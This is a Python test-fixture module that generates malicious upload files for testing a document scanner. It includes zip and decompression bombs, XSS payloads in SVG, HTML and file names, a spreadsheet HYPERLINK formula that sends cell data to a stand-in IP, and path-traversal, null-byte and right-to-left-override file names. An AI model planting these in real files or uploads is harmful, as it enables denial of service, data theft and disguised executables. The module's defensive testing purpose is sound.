"""Files that somebody means ill by, made on the fly."""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf

from tests.journeys.test_reading_desk import QUIET
from tests.scanning.makers import LINES, huge_png, pdf

PIECE, PIECES = 1 << 24, 160
"""Zeros that are packed again and again: 2.7 GB in all."""
SCRIPT = "<script>document.title='taken'</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"รายงาน")'


def letter(subject: str = "การรายงาน", n: int = 1) -> str:
    """A quiet letter about this subject."""
    return QUIET.format(n=n).replace("การรายงานผลการดำเนินงานประจำเดือน", subject)


def zip_bomb() -> bytes:
    """A packed file of a megabyte that would fill gigabytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed,
        packed.open("word/document.xml", "w", force_zip64=True) as entry,
    ):
        for _ in range(40):
            entry.write(bytes(PIECE))
    return out.getvalue()


def unfolding_pdf() -> bytes:
    """A PDF whose only page has a stream that unfolds to gigabytes of blanks."""
    packer = zlib.compressobj(9)
    head = packer.compress(b" ") + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(b" " * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = zlib.compress(head + piece * PIECES + packer.flush(), 9)
    with pikepdf.open(io.BytesIO(pdf(LINES))) as made:
        page = made.pages[0]
        page.Contents = pikepdf.Stream(made, b"")
        page.Contents.write(
            stream, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        )
        return saved(made)


def encrypted_pdf() -> bytes:
    """A PDF that opens with a password only."""
    with pikepdf.open(io.BytesIO(pdf(LINES))) as made:
        return saved(made, encryption=pikepdf.Encryption(owner="x", user="y"))


def saved(made: pikepdf.Pdf, **how: object) -> bytes:
    """The bytes of the document as it is, its streams untouched."""
    out = io.BytesIO()
    made.save(out, compress_streams=False, **how)
    return out.getvalue()


def every() -> dict[str, tuple[str, bytes]]:
    """Each of them by what it is: its name, and its bytes."""
    packed, plain = zip_bomb(), pdf(LINES)
    program = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."
    return {
        "a zip bomb": ("letter.zip", packed),
        "a zip bomb called a PDF": ("letter.pdf", packed),
        "a zip bomb called a Word file": ("letter.docx", packed),
        "a PDF of ten thousand pages": ("long.pdf", pdf(*[("หน้า",)] * 10_000)),
        "a PDF that unfolds": ("unfolds.pdf", unfolding_pdf()),
        "a picture of 900 million points": ("huge.png", huge_png(30_000, 30_000)),
        "a script as the subject": ("script.txt", letter(f"การทดสอบ {SCRIPT} ของระบบ", 2).encode()),
        "a drawing with a script": ("drawing.svg", SVG.encode()),
        "a drawing called a text": ("drawing.txt", SVG.encode()),
        "a letter with a drawing in it": ("inside.txt", (letter(n=3) + SVG).encode()),
        "a letter about a formula": ("formula.txt", letter(FORMULA, 4).encode()),
        "a program called a PDF": ("program.pdf", program),
        "a page called a text": ("page.txt", b"<!doctype html><script>alert(3)</script>"),
        "a PDF with a password": ("locked.pdf", encrypted_pdf()),
        "half a PDF": ("half.pdf", plain[: len(plain) // 2]),
        "nothing": ("empty.pdf", b""),
        "a file over the limit": ("big.txt", b"x" * 51_000_000),
        "a name that climbs": ("../../../climbs.txt", letter(n=5).encode()),
        "a name of another machine": ("C:\\Windows\\drive.txt", letter(n=6).encode()),
        "a name that turns round": ("turns\u202etxt.exe", letter(n=7).encode()),
        "a name without an end": ("น" * 300 + ".txt", letter(n=8).encode()),
        "a name with an end inside": ("cut\0off.txt", letter(n=9).encode()),
        "a name with a tag": ('"><img src=x onerror=alert(4)>.txt', letter(n=10).encode()),
    }
